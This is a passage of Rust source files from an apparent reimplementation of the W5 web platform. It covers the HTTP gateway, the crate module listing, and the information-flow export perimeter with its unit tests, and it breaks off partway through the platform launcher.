            .map(|h| format!("{{\"app\":\"{}\",\"rank\":{:.6}}}", h.name, h.score))
            .collect();
        Response::json(format!("[{}]", hits.join(",")))
    }

    fn home(&self, viewer: Option<&Account>) -> Response {
        let who = viewer.map(|v| v.username.clone()).unwrap_or_else(|| "anonymous".into());
        let apps = self.platform.apps.list();
        let mut html = format!(
            "<html><body><h1>W5 — {}</h1><p>Hello, {who}.</p><ul>",
            self.platform.name
        );
        for a in apps {
            html.push_str(&format!(
                "<li><a href=\"/app/{}/\">{}</a> v{} — {}</li>",
                a.key(),
                a.key(),
                a.version,
                a.description
            ));
        }
        html.push_str("</ul></body></html>");
        Response::html(html)
    }

    fn dispatch_app(&self, req: &Request, viewer: Option<&Account>, rest: &str) -> Response {
        // rest = "dev/app" or "dev/app/action..."
        let mut parts = rest.splitn(3, '/');
        let (Some(dev), Some(app)) = (parts.next(), parts.next()) else {
            return Response::error(Status::BAD_REQUEST, "expected /app/<developer>/<app>/…");
        };
        if dev.is_empty() || app.is_empty() {
            return Response::error(Status::BAD_REQUEST, "expected /app/<developer>/<app>/…");
        }
        let action = parts.next().unwrap_or("").to_string();
        let app_key = format!("{dev}/{app}");

        // Merge query + form params.
        let mut params: BTreeMap<String, String> = BTreeMap::new();
        for (k, v) in req.query() {
            params.insert(k, v);
        }
        if req
            .header("content-type")
            .map(|ct| ct.starts_with("application/x-www-form-urlencoded"))
            .unwrap_or(false)
        {
            for (k, v) in req.form() {
                params.insert(k, v);
            }
        }

        let app_req = crate::api::AppRequest {
            method: req.method.as_str().to_string(),
            action,
            params,
            viewer: viewer.map(|a| a.username.clone()),
            modules: BTreeMap::new(),
            body: req.body.clone(),
        };
        let result = self.platform.invoke(viewer, &app_key, app_req);
        Response::new(Status(result.status))
            .with_header("content-type", &result.content_type)
            .with_header("x-w5-app", &app_key)
            .with_body(result.body)
    }
}

impl Handler for Gateway {
    fn handle(&self, request: Request, _peer: SocketAddr) -> Response {
        self.route(&request)
    }
}

/// Parse a `Cookie` header fragment (re-exported convenience for tests).
pub fn session_cookie_of(resp: &Response) -> Option<Cookie> {
    resp.headers
        .iter()
        .filter(|(k, _)| k.starts_with("set-cookie"))
        .filter_map(|(_, v)| {
            let (pair, _) = v.split_once(';')?;
            let (name, value) = pair.split_once('=')?;
            Some(Cookie { name: name.trim().to_string(), value: value.trim().to_string() })
        })
        .find(|c| c.name == SESSION_COOKIE)
}
