//! # w5-platform — the W5 meta-application
//!
//! The primary contribution of *World Wide Web Without Walls* (HotNets
//! 2007) is an architecture: a provider-operated **meta-application** that
//! hosts many untrusted applications and all users' data inside one
//! logical machine, using DIFC to guarantee that data only crosses the
//! security perimeter through user-authorized declassifiers. This crate is
//! that meta-application:
//!
//! * [`principal`] — accounts; each user gets an export-protection tag and
//!   a write-protection tag (§3.1).
//! * [`session`] + [`crypto`] — cookie authentication (§2), on HMAC-SHA-256
//!   implemented in-crate and test-vector verified.
//! * [`appreg`] — the developer catalog: applications, versions, module
//!   slots, forking (§2).
//! * [`policy`] — per-user choices: enrollment, declassifier grants, write
//!   delegation, module choices, version pins (§1–§2).
//! * [`declass`] — the pluggable declassifier framework and built-ins
//!   (owner-only, public-read, friends-only, group-only, rate-limited)
//!   (§3.1).
//! * [`perimeter`] — the exporter that checks every outgoing byte (§3.1).
//! * [`editors`] — editor endorsements and integrity-protected launching
//!   (§3.2, §3.1).
//! * [`api`] — the system-call surface applications program against.
//! * [`Platform`] — the launcher wiring it all to the kernel and stores.
//! * [`gateway`] — HTTP front end for today's Web clients (§2).
//! * [`sanitize`] — perimeter JavaScript filtering (§3.5).
//! * [`faultreport`] — label-safe debugging (§3.5).

#![forbid(unsafe_code)]

pub mod api;
pub mod appreg;
pub mod boundary;
pub mod crypto;
pub mod declass;
pub mod editors;
pub mod faultreport;
pub mod gateway;
pub mod perimeter;
pub mod policy;
pub mod principal;
pub mod sanitize;
pub mod session;

mod platform;

pub use api::{ApiError, AppRequest, AppResponse, CreateLabels, PlatformApi, W5App};
pub use boundary::NetAdmission;
pub use appreg::{AppManifest, AppRegistry, ModuleManifest, RegistryError};
pub use editors::{EditorRegistry, Endorsement};
pub use declass::{
    Declassifier, DeclassifierRegistry, ExportContext, FriendsOnly, GroupOnly, OwnerOnly,
    PublicRead, RateLimited, RelationshipOracle, StaticRelations, Verdict,
};
pub use faultreport::{FaultKind, FaultReport};
pub use gateway::{session_cookie_of, Gateway};
pub use perimeter::{Clearance, ExportDecision, Exporter};
pub use platform::{sql_escape, InvokeResult, Platform, PlatformConfig, PlatformOracle};
pub use policy::{DeclassifierGrant, GrantScope, PolicyStore, UserPolicy};
pub use principal::{Account, AccountError, AccountStore, UserId};
pub use sanitize::{sanitize_html, SanitizeStats};
pub use session::{SessionStore, SESSION_COOKIE};
