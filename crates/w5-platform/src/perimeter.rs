//! The export perimeter: the last line of W5's security argument.
//!
//! Every byte leaving the platform passes through [`Exporter::check`].
//! The decision, per secrecy tag on the outgoing data:
//!
//! 1. The tag is the authenticated viewer's own export tag → cleared (the
//!    boilerplate policy: "Bob's data can only leave the security perimeter
//!    if destined for Bob's browser"). The platform exercises `e_u-` on the
//!    session endpoint it opened when it authenticated `u`.
//! 2. Otherwise, the tag's owner must have granted — for the application
//!    that produced the response — a declassifier that answers
//!    [`Verdict::Allow`] for this viewer.
//! 3. Anything else blocks the response. The application that produced the
//!    data is never told which tag blocked it.
//!
//! Integrity is advisory at the perimeter (browsers don't check
//! endorsements); the integrity label is reported for audit.

use crate::declass::{DeclassifierRegistry, ExportContext, RelationshipOracle, Verdict};
use crate::policy::PolicyStore;
use crate::principal::{Account, AccountStore, UserId};
use w5_sync::Mutex;
use std::collections::VecDeque;
use std::sync::atomic::{AtomicU64, Ordering};
use w5_difc::{LabelPair, Tag};
use w5_obs::Snapshot;

/// How one tag was cleared.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Clearance {
    /// The viewer owns the tag (session endpoint).
    OwnerSession,
    /// A granted declassifier allowed it.
    Declassifier {
        /// Declassifier name.
        name: String,
    },
}

/// The perimeter's decision for one response.
#[derive(Clone, Debug)]
pub struct ExportDecision {
    /// May the response leave?
    pub allowed: bool,
    /// Per-tag clearances (for audit).
    pub cleared: Vec<(Tag, Clearance)>,
    /// Tags that blocked the export (empty iff allowed).
    pub blocked: Vec<Tag>,
}

/// One audit-log entry. The provider can show users exactly which
/// declassifier released which tag to whom.
#[derive(Clone, Debug)]
pub struct AuditEntry {
    /// Viewer (None = anonymous).
    pub viewer: Option<UserId>,
    /// Application that produced the response.
    pub app: String,
    /// The decision.
    pub allowed: bool,
    /// Tags involved.
    pub secrecy_tags: Vec<Tag>,
}

/// Perimeter throughput counters.
#[derive(Debug, Default)]
pub struct PerimeterStats {
    /// Responses checked.
    pub checked: AtomicU64,
    /// Responses blocked.
    pub blocked: AtomicU64,
    /// Individual declassifier consultations.
    pub declassifier_calls: AtomicU64,
}

/// Serializable snapshot of [`PerimeterStats`].
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct PerimeterStatsView {
    /// Responses checked.
    pub checked: u64,
    /// Responses blocked.
    pub blocked: u64,
    /// Individual declassifier consultations.
    pub declassifier_calls: u64,
}

impl Snapshot for PerimeterStats {
    type View = PerimeterStatsView;
    fn snapshot(&self) -> PerimeterStatsView {
        PerimeterStatsView {
            checked: self.checked.load(Ordering::Relaxed),
            blocked: self.blocked.load(Ordering::Relaxed),
            declassifier_calls: self.declassifier_calls.load(Ordering::Relaxed),
        }
    }
}

/// The exporter. One per platform instance.
pub struct Exporter {
    stats: PerimeterStats,
    /// Audit ring: oldest entries evicted from the front in O(1).
    audit: Mutex<VecDeque<AuditEntry>>,
    /// Cap on retained audit entries (ring semantics).
    audit_cap: usize,
}

impl Default for Exporter {
    fn default() -> Self {
        Exporter::new()
    }
}

impl Exporter {
    /// A fresh exporter.
    pub fn new() -> Exporter {
        Exporter {
            stats: PerimeterStats::default(),
            audit: Mutex::new("platform.perimeter", VecDeque::new()),
            audit_cap: 10_000,
        }
    }

    /// An exporter retaining at most `cap` audit entries (test/tuning use).
    pub fn with_audit_cap(cap: usize) -> Exporter {
        Exporter { audit_cap: cap.max(1), ..Exporter::new() }
    }

    /// Decide whether `labels` may be exported to `viewer` for a response
    /// produced by `app`.
    #[allow(clippy::too_many_arguments)]
    pub fn check(
        &self,
        labels: &LabelPair,
        viewer: Option<&Account>,
        app: &str,
        accounts: &AccountStore,
        policies: &PolicyStore,
        declassifiers: &DeclassifierRegistry,
        oracle: &dyn RelationshipOracle,
    ) -> ExportDecision {
        let started = std::time::Instant::now();
        self.stats.checked.fetch_add(1, Ordering::Relaxed);
        // One interned-cache lookup covers both ledger emissions below;
        // for the dominant public-response case this is an alloc-free
        // inline copy.
        let obs_secrecy = labels.secrecy.to_obs();
        let _span =
            w5_obs::span("platform.export_check", w5_obs::Layer::Platform, &obs_secrecy);
        let mut cleared = Vec::new();
        let mut blocked = Vec::new();

        for tag in labels.secrecy.iter() {
            // Case 1: the viewer's own tag (export or read-protection).
            if let Some(v) = viewer {
                if v.export_tag == tag || v.read_tag == Some(tag) {
                    cleared.push((tag, Clearance::OwnerSession));
                    continue;
                }
            }
            // Case 2: a declassifier granted by the tag's owner.
            let clearance = accounts.owner_of_secrecy_tag(tag).and_then(|owner_id| {
                let owner = accounts.get(owner_id)?;
                let policy = policies.get(owner_id);
                let ctx = ExportContext {
                    owner: owner_id,
                    owner_name: owner.username.clone(),
                    viewer: viewer.map(|v| v.id),
                    viewer_name: viewer.map(|v| v.username.clone()),
                    app: app.to_string(),
                };
                for name in policy.granted_for(app) {
                    let secrecy = w5_obs::ObsLabel::singleton(tag.raw());
                    if let Some(verdict) = declassifiers.consult(&name, &ctx, oracle, &secrecy) {
                        self.stats.declassifier_calls.fetch_add(1, Ordering::Relaxed);
                        if verdict == Verdict::Allow {
                            return Some(Clearance::Declassifier { name });
                        }
                    }
                }
                None
            });
            match clearance {
                Some(c) => cleared.push((tag, c)),
                None => blocked.push(tag),
            }
        }

        let allowed = blocked.is_empty();
        if !allowed {
            self.stats.blocked.fetch_add(1, Ordering::Relaxed);
        }
        {
            let mut audit = self.audit.lock();
            if audit.len() >= self.audit_cap {
                audit.pop_front();
            }
            audit.push_back(AuditEntry {
                viewer: viewer.map(|v| v.id),
                app: app.to_string(),
                allowed,
                secrecy_tags: labels.secrecy.iter().collect(),
            });
        }
        // The decision is labeled with the response's secrecy: a blocked
        // export names the tags that blocked it, which is exactly the data
        // the perimeter refused to release.
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ExportCheck {
                app: app.to_string(),
                allowed,
                blocked_tags: blocked.len() as u64,
            },
        );
        w5_obs::time("platform.export_check", &obs_secrecy, started.elapsed());
        ExportDecision { allowed, cleared, blocked }
    }

    /// Counter snapshot: (checked, blocked, declassifier calls).
    pub fn stats(&self) -> (u64, u64, u64) {
        (
            self.stats.checked.load(Ordering::Relaxed),
            self.stats.blocked.load(Ordering::Relaxed),
            self.stats.declassifier_calls.load(Ordering::Relaxed),
        )
    }

    /// Serializable counter snapshot.
    pub fn stats_view(&self) -> PerimeterStatsView {
        self.stats.snapshot()
    }

    /// Recent audit entries (most recent last).
    pub fn audit_log(&self) -> Vec<AuditEntry> {
        self.audit.lock().iter().cloned().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::declass::StaticRelations;
    use crate::policy::GrantScope;
    use std::sync::Arc;
    use w5_difc::{Label, TagRegistry};

    struct World {
        accounts: AccountStore,
        policies: PolicyStore,
        declass: DeclassifierRegistry,
        rel: StaticRelations,
        exporter: Exporter,
        bob: Account,
        alice: Account,
    }

    fn world() -> World {
        let reg = Arc::new(TagRegistry::new());
        let accounts = AccountStore::new(reg);
        let bob = accounts.register("bob", "pw").unwrap();
        let alice = accounts.register("alice", "pw").unwrap();
        World {
            accounts,
            policies: PolicyStore::new(),
            declass: DeclassifierRegistry::with_builtins(),
            rel: StaticRelations::new(),
            exporter: Exporter::new(),
            bob,
            alice,
        }
    }

    fn bob_data(w: &World) -> LabelPair {
        LabelPair::new(Label::singleton(w.bob.export_tag), Label::empty())
    }

    #[test]
    fn owner_session_always_clears_own_tag() {
        let w = world();
        let d = w.exporter.check(
            &bob_data(&w),
            Some(&w.bob),
            "devA/photos",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(d.allowed);
        assert_eq!(d.cleared, vec![(w.bob.export_tag, Clearance::OwnerSession)]);
    }

    #[test]
    fn stranger_blocked_without_grant() {
        let w = world();
        let d = w.exporter.check(
            &bob_data(&w),
            Some(&w.alice),
            "devA/photos",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(!d.allowed);
        assert_eq!(d.blocked, vec![w.bob.export_tag]);
        let (checked, blocked, _) = w.exporter.stats();
        assert_eq!((checked, blocked), (1, 1));
    }

    #[test]
    fn friends_only_grant_opens_the_hole() {
        let w = world();
        w.policies.grant_declassifier(
            w.bob.id,
            "friends-only",
            GrantScope::App("devA/social".into()),
        );
        w.rel.add_friend("bob", "alice");
        // Alice through the granted app: allowed.
        let d = w.exporter.check(
            &bob_data(&w),
            Some(&w.alice),
            "devA/social",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(d.allowed);
        assert!(matches!(d.cleared[0].1, Clearance::Declassifier { ref name } if name == "friends-only"));
        // Same viewer through a different app: the grant does not travel.
        let d = w.exporter.check(
            &bob_data(&w),
            Some(&w.alice),
            "devB/other",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(!d.allowed);
        // A non-friend through the granted app: denied.
        let carol = w.accounts.register("carol", "pw").unwrap();
        let d = w.exporter.check(
            &bob_data(&w),
            Some(&carol),
            "devA/social",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(!d.allowed);
    }

    #[test]
    fn commingled_data_needs_every_tag_cleared() {
        let w = world();
        // Data derived from both Bob's and Alice's secrets.
        let both = LabelPair::new(
            Label::from_iter([w.bob.export_tag, w.alice.export_tag]),
            Label::empty(),
        );
        // Bob asks: his own tag clears, Alice's does not.
        let d = w.exporter.check(
            &both,
            Some(&w.bob),
            "devA/mashup",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(!d.allowed);
        assert_eq!(d.blocked, vec![w.alice.export_tag]);
        assert_eq!(d.cleared.len(), 1);
        // With Alice granting public-read for the mashup, it clears.
        w.policies
            .grant_declassifier(w.alice.id, "public-read", GrantScope::App("devA/mashup".into()));
        let d = w.exporter.check(
            &both,
            Some(&w.bob),
            "devA/mashup",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(d.allowed);
    }

    #[test]
    fn anonymous_viewer_needs_public_grant() {
        let w = world();
        let d = w.exporter.check(
            &bob_data(&w),
            None,
            "devA/blog",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(!d.allowed);
        w.policies
            .grant_declassifier(w.bob.id, "public-read", GrantScope::App("devA/blog".into()));
        let d = w.exporter.check(
            &bob_data(&w),
            None,
            "devA/blog",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(d.allowed);
    }

    #[test]
    fn public_data_always_exports() {
        let w = world();
        let d = w.exporter.check(
            &LabelPair::public(),
            None,
            "devA/anything",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        assert!(d.allowed);
        assert!(d.cleared.is_empty());
    }

    #[test]
    fn audit_ring_evicts_oldest_first() {
        let w = world();
        let exporter = Exporter::with_audit_cap(3);
        for i in 0..7 {
            let _ = exporter.check(
                &bob_data(&w),
                Some(&w.bob),
                &format!("devA/app{i}"),
                &w.accounts,
                &w.policies,
                &w.declass,
                &w.rel,
            );
        }
        let log = exporter.audit_log();
        assert_eq!(log.len(), 3, "ring capped");
        // Oldest entries gone, survivors in arrival order.
        let apps: Vec<&str> = log.iter().map(|e| e.app.as_str()).collect();
        assert_eq!(apps, ["devA/app4", "devA/app5", "devA/app6"]);
        // Counters see every check despite eviction.
        assert_eq!(exporter.stats().0, 7);
    }

    #[test]
    fn stats_snapshot_roundtrips() {
        let w = world();
        let _ = w.exporter.check(
            &bob_data(&w),
            Some(&w.alice),
            "devA/photos",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        let view = w.exporter.stats_view();
        assert_eq!(view.checked, 1);
        assert_eq!(view.blocked, 1);
        let json = w5_obs::snapshot_json(&w.exporter.stats).unwrap();
        let back: PerimeterStatsView = serde_json::from_str(&json).unwrap();
        assert_eq!(back, view);
    }

    #[test]
    fn audit_log_records_decisions() {
        let w = world();
        let _ = w.exporter.check(
            &bob_data(&w),
            Some(&w.alice),
            "devA/photos",
            &w.accounts,
            &w.policies,
            &w.declass,
            &w.rel,
        );
        let log = w.exporter.audit_log();
        assert_eq!(log.len(), 1);
        assert!(!log[0].allowed);
        assert_eq!(log[0].viewer, Some(w.alice.id));
        assert_eq!(log[0].app, "devA/photos");
    }
}
