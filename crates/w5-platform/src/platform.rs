//! The meta-application: one W5 provider instance.
//!
//! A [`Platform`] owns the whole trusted stack — tag registry, kernel,
//! labeled storage, accounts, sessions, app catalog, policies,
//! declassifiers and the export perimeter — and implements the launcher of
//! paper §2: authenticate the user from a cookie, identify the requested
//! application, launch it with the privileges the user's policy grants,
//! and pass its output through the perimeter.

use crate::api::{AppRequest, AppResponse, PlatformApi, W5App};
use crate::appreg::{AppManifest, AppRegistry};
use crate::declass::{DeclassifierRegistry, RelationshipOracle};
use crate::editors::EditorRegistry;
use crate::faultreport::{build_report, FaultKind, FaultReport};
use crate::perimeter::{ExportDecision, Exporter};
use crate::policy::PolicyStore;
use crate::principal::{Account, AccountStore};
use crate::sanitize::{sanitize_html_labeled, SanitizeStats};
use crate::session::SessionStore;
use bytes::Bytes;
use w5_sync::{Mutex, RwLock};
use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use w5_difc::{CapSet, Capability, LabelPair, TagRegistry};
use w5_kernel::{Kernel, ResourceLimits};
use w5_store::{Database, LabeledFs, QueryCost, QueryMode, Subject};

/// Platform-wide configuration. The `enforce_ifc` switch exists solely for
/// the no-IFC baseline arm of the overhead experiments (E4): a production
/// provider would never disable it.
#[derive(Clone, Debug)]
pub struct PlatformConfig {
    /// Enforce information flow control (perimeter + taint). Disabling
    /// reduces the platform to a conventional shared web host.
    pub enforce_ifc: bool,
    /// Filter JavaScript out of outgoing HTML (§3.5).
    pub sanitize_html: bool,
    /// Resource limits for app instances.
    pub app_limits: ResourceLimits,
    /// Per-query scan budget for app SQL.
    pub query_cost: QueryCost,
}

impl Default for PlatformConfig {
    fn default() -> Self {
        PlatformConfig {
            enforce_ifc: true,
            sanitize_html: true,
            app_limits: ResourceLimits::sandbox_default(),
            query_cost: QueryCost::sandbox_default(),
        }
    }
}

/// The outcome of one application invocation, before HTTP encoding.
#[derive(Clone, Debug)]
pub struct InvokeResult {
    /// HTTP-ish status code the gateway should send.
    pub status: u16,
    /// Content type of the body.
    pub content_type: String,
    /// Body (possibly sanitized).
    pub body: Bytes,
    /// The labels the instance ended with.
    pub labels: LabelPair,
    /// The perimeter's decision (None when IFC is disabled).
    pub export: Option<ExportDecision>,
    /// Fault report, if the app failed.
    pub fault: Option<FaultReport>,
    /// Sanitizer statistics, if HTML filtering ran.
    pub sanitized: Option<SanitizeStats>,
}

/// Aggregate platform counters.
#[derive(Debug, Default)]
pub struct PlatformStats {
    /// Application invocations.
    pub invocations: AtomicU64,
    /// Invocations whose export was blocked.
    pub exports_blocked: AtomicU64,
    /// Application faults.
    pub faults: AtomicU64,
}

/// Serializable snapshot of [`PlatformStats`].
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct PlatformStatsView {
    /// Application invocations.
    pub invocations: u64,
    /// Invocations whose export was blocked.
    pub exports_blocked: u64,
    /// Application faults.
    pub faults: u64,
}

impl w5_obs::Snapshot for PlatformStats {
    type View = PlatformStatsView;
    fn snapshot(&self) -> PlatformStatsView {
        PlatformStatsView {
            invocations: self.invocations.load(Ordering::Relaxed),
            exports_blocked: self.exports_blocked.load(Ordering::Relaxed),
            faults: self.faults.load(Ordering::Relaxed),
        }
    }
}

/// One W5 provider instance.
pub struct Platform {
    /// Provider name (federation / diagnostics).
    pub name: String,
    /// Shared tag registry.
    pub registry: Arc<TagRegistry>,
    /// The DIFC kernel.
    pub kernel: Kernel,
    /// Labeled filesystem.
    pub fs: LabeledFs,
    /// Labeled database.
    pub db: Database,
    /// User accounts.
    pub accounts: AccountStore,
    /// Login sessions.
    pub sessions: SessionStore,
    /// Application catalog (manifests).
    pub apps: AppRegistry,
    /// Declassifier catalog.
    pub declassifiers: DeclassifierRegistry,
    /// Editor endorsements (§3.2) backing integrity-protected launches.
    pub editors: EditorRegistry,
    /// Per-user policies.
    pub policies: PolicyStore,
    /// The export perimeter.
    pub exporter: Exporter,
    /// Configuration.
    pub config: PlatformConfig,
    /// Counters.
    pub stats: PlatformStats,
    impls: RwLock<HashMap<String, Arc<dyn W5App>>>,
    faults: Mutex<std::collections::VecDeque<FaultReport>>,
}

impl Platform {
    /// A fresh provider with the built-in declassifiers and platform tables.
    pub fn new(name: &str, config: PlatformConfig) -> Arc<Platform> {
        let registry = Arc::new(TagRegistry::new());
        let kernel = Kernel::new(Arc::clone(&registry));
        let db = Database::new();
        // Platform-owned relationship tables (the oracle reads these).
        // Construction may run inside an armed chaos scope; ride out
        // injected aborts the same way trusted_execute does.
        let trusted = Subject::anonymous();
        let create = |sql: &str| {
            for _ in 0..16 {
                match db.execute(
                    &trusted,
                    QueryMode::Filtered,
                    QueryCost::unlimited(),
                    &LabelPair::public(),
                    sql,
                ) {
                    Ok(_) => return,
                    Err(w5_store::QueryError::Aborted) => continue,
                    Err(e) => panic!("create platform table: {e}"),
                }
            }
            panic!("create platform table: persistent injected abort");
        };
        create("CREATE TABLE w5_friends (owner TEXT, friend TEXT)");
        create("CREATE TABLE w5_groups (owner TEXT, grp TEXT, member TEXT)");
        create("CREATE TABLE w5_mail (app TEXT, body TEXT, seq INTEGER)");
        // Platform queries are point lookups on these columns; the indexes
        // turn each into a sorted-run probe per visible partition. Direct
        // calls (not SQL): index creation is schema metadata, not subject
        // to fault injection or label checks.
        db.create_index("w5_friends", "owner").expect("index w5_friends");
        db.create_index("w5_groups", "owner").expect("index w5_groups");
        db.create_index("w5_mail", "app").expect("index w5_mail");

        Arc::new(Platform {
            name: name.to_string(),
            accounts: AccountStore::new(Arc::clone(&registry)),
            registry,
            kernel,
            fs: LabeledFs::new(),
            db,
            sessions: SessionStore::new(),
            apps: AppRegistry::new(),
            declassifiers: DeclassifierRegistry::with_builtins(),
            editors: EditorRegistry::new(),
            policies: PolicyStore::new(),
            exporter: Exporter::new(),
            config,
            stats: PlatformStats::default(),
            impls: RwLock::with_index("platform.impl", 0, HashMap::new()),
            faults: Mutex::with_index("platform.impl", 1, std::collections::VecDeque::new()),
        })
    }

    /// Default-config provider.
    pub fn new_default(name: &str) -> Arc<Platform> {
        Platform::new(name, PlatformConfig::default())
    }

    /// Install the executable implementation for a published app key.
    pub fn install_app(&self, key: &str, app: Arc<dyn W5App>) {
        self.impls.write().insert(key.to_string(), app);
    }

    /// Fetch an app implementation.
    pub fn app_impl(&self, key: &str) -> Option<Arc<dyn W5App>> {
        self.impls.read().get(key).cloned()
    }

    /// Resolve which manifest a user actually runs: their version pin if
    /// any, else the latest.
    pub fn resolve_manifest(&self, viewer: Option<&Account>, key: &str) -> Option<AppManifest> {
        if let Some(v) = viewer {
            let policy = self.policies.get(v.id);
            if let Some(&pin) = policy.version_pins.get(key) {
                return self.apps.version(key, pin);
            }
        }
        self.apps.latest(key)
    }

    /// The relationship oracle backed by the platform tables.
    pub fn oracle(&self) -> PlatformOracle<'_> {
        PlatformOracle { db: &self.db }
    }

    /// Execute a trusted platform statement, riding out transient injected
    /// aborts (`w5-chaos`). Retries are bounded; a statement that still
    /// fails is dropped on the floor rather than panicking the provider —
    /// degraded state, never a crash.
    fn trusted_execute(&self, sql: &str) {
        let trusted = Subject::anonymous();
        for _ in 0..16 {
            match self.db.execute(
                &trusted,
                QueryMode::Filtered,
                QueryCost::unlimited(),
                &LabelPair::public(),
                sql,
            ) {
                Ok(_) => return,
                Err(w5_store::QueryError::Aborted) => continue,
                Err(e) => panic!("trusted platform statement failed: {e}"),
            }
        }
    }

    /// Record a friendship (platform UI path; the social app also writes
    /// these rows through its own API).
    pub fn add_friend(&self, owner: &str, friend: &str) {
        self.trusted_execute(&format!(
            "INSERT INTO w5_friends (owner, friend) VALUES ('{}', '{}')",
            sql_escape(owner),
            sql_escape(friend)
        ));
    }

    /// Record group membership.
    pub fn add_group_member(&self, owner: &str, group: &str, member: &str) {
        self.trusted_execute(&format!(
            "INSERT INTO w5_groups (owner, grp, member) VALUES ('{}', '{}', '{}')",
            sql_escape(owner),
            sql_escape(group),
            sql_escape(member)
        ));
    }

    /// Launch an application instance and run one request through it —
    /// the complete §2 request path minus HTTP framing (the gateway adds
    /// that). Also the entry point the benchmarks drive directly.
    pub fn invoke(
        &self,
        viewer: Option<&Account>,
        app_key: &str,
        request: AppRequest,
    ) -> InvokeResult {
        self.stats.invocations.fetch_add(1, Ordering::Relaxed);
        let invoke_started = std::time::Instant::now();
        // Child of the gateway's HTTP root span when reached over the wire,
        // a fresh trace root when driven directly (benchmarks, tests). The
        // response labels are only known at the end — unioned in below.
        let mut trace_span = Some(w5_obs::span(
            &format!("platform.invoke {app_key}"),
            w5_obs::Layer::Platform,
            &w5_obs::ObsLabel::empty(),
        ));

        let Some(manifest) = self.resolve_manifest(viewer, app_key) else {
            return error_result(404, "no such application");
        };
        let Some(app) = self.app_impl(app_key) else {
            return error_result(404, "application not installed");
        };

        // Resolve module choices: the viewer's pick per slot, defaulting to
        // the app's own developer.
        let mut request = request;
        let viewer_policy = viewer.map(|v| self.policies.get(v.id));
        for slot in &manifest.module_slots {
            let choice = viewer_policy
                .as_ref()
                .and_then(|p| p.module_choices.get(&(app_key.to_string(), slot.clone())))
                .cloned()
                .unwrap_or_else(|| manifest.developer.clone());
            request.modules.insert(slot.clone(), choice);
        }

        // §3.1 integrity protection: if the viewer requires endorsements,
        // the app and its whole import closure must be vouched by one of
        // their trusted editors.
        if let Some(v) = viewer {
            let policy = self.policies.get(v.id);
            if policy.require_endorsement {
                if let Err(component) = self.editors.check_integrity(
                    &self.apps,
                    app_key,
                    manifest.version,
                    &policy.trusted_editors,
                ) {
                    return error_result(
                        403,
                        &format!("launch refused: component {component} lacks a trusted endorsement"),
                    );
                }
            }
        }

        // Assemble the instance's capability grant from the viewer's policy.
        let mut grant = CapSet::empty();
        if let Some(v) = viewer {
            let policy = self.policies.get(v.id);
            if policy.write_delegations.contains(app_key) {
                grant.insert(Capability::plus(v.write_tag));
            }
            if policy.read_delegations.contains(app_key) {
                if let Some(r) = v.read_tag {
                    grant.insert(Capability::plus(r));
                }
            }
        }
        let limits = if self.config.enforce_ifc {
            self.config.app_limits
        } else {
            ResourceLimits::unlimited()
        };
        let pid = self
            .kernel
            .create_process(&format!("app:{app_key}"), LabelPair::public(), grant, limits);

        let query_mode = if self.config.enforce_ifc { QueryMode::Filtered } else { QueryMode::Naive };
        let mut api = PlatformApi::new(
            &self.kernel,
            &self.fs,
            &self.db,
            pid,
            viewer,
            app_key,
            self.config.query_cost,
            query_mode,
        );

        let outcome = quiet_panics(|| {
            std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                app.handle(&request, &mut api)
            }))
        });
        let _log = api.take_log();
        let labels = self.kernel.labels(pid).unwrap_or_default();

        let result = match outcome {
            Err(panic) => {
                let detail = panic_message(&panic);
                let report = build_report(app_key, FaultKind::Crash, &labels, &detail);
                self.record_fault(report.clone());
                let mut r = error_result(500, "application error");
                r.fault = Some(report);
                r.labels = labels.clone();
                r
            }
            Ok(Err(e)) => {
                let kind = match e {
                    crate::api::ApiError::Quota => FaultKind::QuotaExceeded,
                    crate::api::ApiError::Denied => FaultKind::FlowDenied,
                    crate::api::ApiError::Unavailable(_) => FaultKind::Infrastructure,
                    _ => FaultKind::BadResponse,
                };
                let report = build_report(app_key, kind, &labels, &e.to_string());
                self.record_fault(report.clone());
                let status = match e {
                    crate::api::ApiError::NotFound => 404,
                    crate::api::ApiError::Denied => 403,
                    crate::api::ApiError::Quota => 429,
                    crate::api::ApiError::Bad(_) => 400,
                    crate::api::ApiError::Unavailable(_) => 503,
                };
                let mut r = error_result(status, &e.to_string());
                r.fault = Some(report);
                r.labels = labels.clone();
                r
            }
            Ok(Ok(response)) => {
                self.export_response(viewer, app_key, response, labels)
            }
        };

        let _ = self.kernel.exit(pid);
        let _ = self.kernel.reap(pid);
        // Invocation latency is labeled with the labels the instance ended
        // with: a tainted app's timing profile is tainted data. The span
        // carries the same label before it closes.
        let result_secrecy = result.labels.secrecy.to_obs();
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&result_secrecy);
        }
        drop(trace_span.take());
        w5_obs::time("platform.invoke", &result_secrecy, invoke_started.elapsed());
        result
    }

    fn export_response(
        &self,
        viewer: Option<&Account>,
        app_key: &str,
        response: AppResponse,
        labels: LabelPair,
    ) -> InvokeResult {
        if !self.config.enforce_ifc {
            // Baseline arm: ship it, no questions asked.
            return InvokeResult {
                status: 200,
                content_type: response.content_type,
                body: response.body,
                labels,
                export: None,
                fault: None,
                sanitized: None,
            };
        }
        let oracle = self.oracle();
        let decision = self.exporter.check(
            &labels,
            viewer,
            app_key,
